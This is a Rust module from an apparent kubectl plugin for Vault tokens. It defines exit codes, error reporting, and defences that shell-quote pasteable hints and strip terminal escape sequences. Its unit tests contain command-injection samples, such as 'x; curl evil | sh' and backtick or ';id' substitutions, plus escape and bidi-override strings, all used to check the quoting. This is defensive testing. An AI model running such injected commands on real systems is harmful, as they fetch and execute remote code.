//! The error that ends a command, the exit code it ends with, and the three lines a person reads.
//!
//! Every module has its own enum whose variants tell the caller what to do next; this one gathers
//! them. It owns the exit codes and the order of the lines, and never prints.

use std::borrow::Cow;
use std::fmt;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};

use crate::config::SettingsError;
use crate::databricks::DatabricksError;
use crate::exec::ExecError;
use crate::identity::IdentityError;
use crate::keystore::StoreError;
use crate::oidc::OidcError;
use crate::source::SourceError;
use crate::suspicion::RefusedError;
use crate::trust::TrustError;
use crate::vault::VaultError;

/// How the process ends. The numbers are a promise to scripts; see `docs/exit-codes.md`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[repr(u8)]
pub enum ExitCode {
    /// Done.
    Done = 0,
    /// A fault of ours.
    Fault = 1,
    /// Usage or settings.
    Usage = 2,
    /// A person must log in.
    LoginRequired = 3,
    /// Vault, the provider or the cluster said no.
    Refused = 4,
    /// Not reachable, sealed, or no answer in time: the same call may work later.
    Unreachable = 5,
    /// An answer that cannot be used.
    Unusable = 6,
    /// We refused: it would have sent a secret where nobody allowed it.
    Withheld = 7,
    /// No place to keep secrets that satisfies `store`.
    NoStore = 8,
    /// Ended by Ctrl-C.
    Interrupted = 130,
    /// Ended by SIGTERM.
    Terminated = 143,
}

/// What an error tells a person besides its `Display`, which says what failed and who refused it.
pub trait Explain: std::error::Error {
    /// The exit code of a command that ends with this error.
    fn exit_code(&self) -> ExitCode;
    /// Why, where it is known: the server's own words or the reason of a check of ours.
    fn why(&self) -> Option<String>;
    /// The command (or the change) that mends it, with the placeholders of [`Calling`].
    fn hint(&self) -> Option<String>;
}

/// Everything that can end a command.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// The settings, the flags or the cluster extension are wrong.
    #[error(transparent)]
    Settings(#[from] SettingsError),
    /// What the client told us, or wants back, cannot be understood.
    #[error(transparent)]
    Exec(#[from] ExecError),
    /// Vault or OpenBao, or the way to it.
    #[error(transparent)]
    Vault(#[from] VaultError),
    /// An OpenID provider or authorization server, or the way to it.
    #[error(transparent)]
    Oidc(#[from] OidcError),
    /// The workload's own identity.
    #[error(transparent)]
    Identity(#[from] IdentityError),
    /// What a source got instead of a token.
    #[error(transparent)]
    Source(#[from] SourceError),
    /// The cluster refuses what we hand out.
    #[error(transparent)]
    Refused(#[from] RefusedError),
    /// We refused to send a secret.
    #[error(transparent)]
    Trust(#[from] TrustError),
    /// There is no place for secrets.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// What a tool of Databricks' asks for cannot be had here.
    #[error(transparent)]
    Databricks(#[from] DatabricksError),
    /// The failure of another process that we waited for, or our own of a moment ago.
    #[error(transparent)]
    Earlier(#[from] Failure),
    /// A signal ended us.
    #[error("interrupted")]
    Interrupted(ExitCode),
    /// Something that should not happen.
    #[error("a fault of ours: {0}")]
    Fault(String),
}

impl Error {
    fn explain(&self) -> Option<&dyn Explain> {
        match self {
            Self::Settings(error) => Some(error),
            Self::Exec(error) => Some(error),
            Self::Vault(error) => Some(error),
            Self::Oidc(error) => Some(error),
            Self::Identity(error) => Some(error),
            Self::Source(error) => Some(error),
            Self::Refused(error) => Some(error),
            Self::Trust(error) => Some(error),
            Self::Store(error) => Some(error),
            Self::Databricks(error) => Some(error),
            Self::Earlier(error) => Some(error),
            Self::Interrupted(_) | Self::Fault(_) => None,
        }
    }

    /// The exit code of a command that ends with this error.
    #[must_use]
    pub fn exit_code(&self) -> ExitCode {
        match self {
            Self::Interrupted(code) => *code,
            other => other.explain().map_or(ExitCode::Fault, Explain::exit_code),
        }
    }

    /// The error as it can be kept for those who ask again in the next seconds.
    #[must_use]
    pub fn to_failure(&self) -> Failure {
        Failure {
            exit_code: self.exit_code(),
            what: self.to_string(),
            why: self.explain().and_then(Explain::why),
            hint: self.explain().and_then(Explain::hint),
        }
    }

    /// The lines for a person: what failed and who refused it, why, and what mends it.
    #[must_use]
    pub fn report(&self, calling: &Calling) -> String {
        let failure = self.to_failure();
        let mut text = String::new();
        let about = calling.profile.as_deref().map(|profile| format!("profile `{profile}`: "));
        push_line(&mut text, "error: ", &format!("{}{}", about.unwrap_or_default(), failure.what));
        if let Some(why) = &failure.why {
            push_line(&mut text, "  why: ", why);
        }
        if let Some(hint) = &failure.hint {
            push_line(&mut text, "  try: ", &calling.complete(hint));
        }
        text
    }
}

fn push_line(text: &mut String, label: &str, line: &str) {
    text.push_str(label);
    text.push_str(&printable(line));
    text.push('\n');
}

/// A failure as it is kept and told again: already in words, without anything secret.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
#[error("{what}")]
pub struct Failure {
    /// The exit code of the command that failed.
    pub exit_code: ExitCode,
    /// What failed and who refused it.
    pub what: String,
    /// Why, where it is known.
    pub why: Option<String>,
    /// What mends it.
    pub hint: Option<String>,
}

impl Explain for Failure {
    fn exit_code(&self) -> ExitCode {
        self.exit_code
    }
    fn why(&self) -> Option<String> {
        self.why.clone()
    }
    fn hint(&self) -> Option<String> {
        self.hint.clone()
    }
}

/// How this program was called, so that a hint can be pasted as it stands.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Calling {
    /// `{program}`: `kubectl vaulttoken` or `kubectl-vaulttoken`.
    pub program: String,
    /// `{profile}`, behind a blank: the profile of this call, once it is known.
    pub profile: Option<String>,
    /// `{source}`, with a blank before each: where no profile is meant, the flags that describe what
    /// stands for one.
    pub source: String,
    /// `{vault}`, likewise: the flags that name the Vault, where the profile does not.
    pub vault: String,
    /// `{config}`, behind a blank and its flag: the settings file that this call named.
    pub config: Option<PathBuf>,
}

impl Calling {
    pub(crate) fn complete(&self, hint: &str) -> String {
        let profile = self.profile.as_ref().map(|profile| format!(" {}", shell_word(profile)));
        let config =
            self.config.as_ref().map(|file| format!(" --config {}", shell_word(&file.to_string_lossy())));
        let source = if profile.is_some() { "" } else { &self.source };
        // Security: no word that was put in holds a placeholder, see `shell_word`.
        hint.replace("{program}", &self.program)
            .replace("{profile}", &profile.unwrap_or_default())
            .replace("{source}", source)
            .replace("{vault}", &self.vault)
            .replace("{config}", &config.unwrap_or_default())
    }
}

/// A word of a command that a hint offers for pasting.
///
/// Security: names may be a kubeconfig's. None may end the word and begin a command, nor hold a
/// placeholder, whose words would end the quotation.
#[must_use]
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:@%+".contains(&byte);
    if !text.is_empty() && text.bytes().all(is_plain) {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''").replace('{', "{''")))
    }
}

/// Makes somebody else's words safe for a terminal and for one line of a log.
///
/// Security: a server's message, a name in a kubeconfig or a file's content may hold escape
/// sequences or line breaks (CVE-2021-25743). White space becomes a blank; any other control or
/// bidirectional-override character becomes `U+FFFD`; very long text is cut.
#[must_use]
pub fn printable(text: &str) -> String {
    const LONGEST: usize = 1_000;
    let mut line = String::with_capacity(text.len().min(LONGEST));
    let mut blank = false;
    for (count, character) in text.trim().chars().enumerate() {
        if count == LONGEST {
            line.push('…');
            break;
        }
        let next = match character {
            '\n' | '\r' | '\t' | ' ' => ' ',
            c if c.is_control() || is_direction_override(c) => char::REPLACEMENT_CHARACTER,
            c => c,
        };
        if next == ' ' && blank {
            continue;
        }
        blank = next == ' ';
        line.push(next);
    }
    line
}

/// Characters that make text on a terminal read in another order than it is written.
fn is_direction_override(character: char) -> bool {
    matches!(character, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

impl fmt::Display for ExitCode {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(formatter, "{}", *self as u8)
    }
}

#[cfg(test)]
mod words;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_words_stay_on_one_line_and_cannot_steer_a_terminal() {
        assert_eq!(printable("a\r\n\tb"), "a b");
        assert_eq!(printable("\u{1b}[31mred\u{0}"), "\u{fffd}[31mred\u{fffd}");
        assert_eq!(printable("user\u{202e}gpj"), "user\u{fffd}gpj");
        assert_eq!(printable(&"x".repeat(5_000)).chars().count(), 1_001);
    }

    #[test]
    fn a_word_for_the_shell_is_one_word() {
        assert_eq!(shell_word("kubernetes/prod-1_a.b"), "kubernetes/prod-1_a.b");
        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_word("x'`id`'"), r"'x'\''`id`'\'''");
        assert_eq!(shell_word("~"), "'~'");
        assert_eq!(shell_word(""), "''");
        // A placeholder would be filled with quotes of our own.
        assert_eq!(shell_word("a{config}"), "'a{''config}'");
    }

    #[test]
    fn a_hint_repeats_what_the_call_named() {
        let hint = "{program} trust{profile}{source}{config} --context 'a{''config}'";
        let mut calling = Calling {
            program: "kubectl-vaulttoken".into(),
            source: " --source=vault-kv".into(),
            config: Some("/my settings;id".into()),
            ..Calling::default()
        };
        assert_eq!(
            calling.complete(hint),
            "kubectl-vaulttoken trust --source=vault-kv --config '/my settings;id' --context 'a{''config}'"
        );
        calling.profile = Some("prod".into());
        assert_eq!(
            calling.complete(hint),
            "kubectl-vaulttoken trust prod --config '/my settings;id' --context 'a{''config}'"
        );
        calling.vault = " --vault=corp".into();
        assert_eq!(calling.complete("login{profile}{vault}"), "login prod --vault=corp");
    }

    #[test]
    fn a_report_says_what_why_and_what_to_run_in_that_order() {
        let error = Error::Earlier(Failure {
            exit_code: ExitCode::LoginRequired,
            what: "log-in required".into(),
            why: Some("no session".into()),
            hint: Some("{program} login{profile}".into()),
        });
        let calling = Calling {
            program: "kubectl vaulttoken".into(),
            profile: Some("prod".into()),
            ..Calling::default()
        };
        assert_eq!(
            error.report(&calling),
            "error: profile `prod`: log-in required\n  why: no session\n  try: kubectl vaulttoken login prod\n"
        );
        assert_eq!(error.exit_code(), ExitCode::LoginRequired);
    }
}
